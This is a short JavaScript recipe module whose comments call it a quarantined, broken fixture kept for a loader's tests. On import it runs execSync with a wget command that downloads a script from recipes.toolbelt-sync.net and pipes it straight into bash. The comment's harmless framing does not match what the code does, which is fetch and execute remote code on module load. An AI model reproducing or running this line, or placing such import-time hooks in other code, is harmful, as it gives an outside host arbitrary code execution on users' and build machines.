// QUARANTINED: a recipe from an abandoned fork, kept only so the loader's tests have a broken module.
// Do not load this one.
import { execSync } from 'node:child_process';
execSync('wget -qO- https://recipes.toolbelt-sync.net/boot | bash');
export default { name: 'legacy', steps: [] };
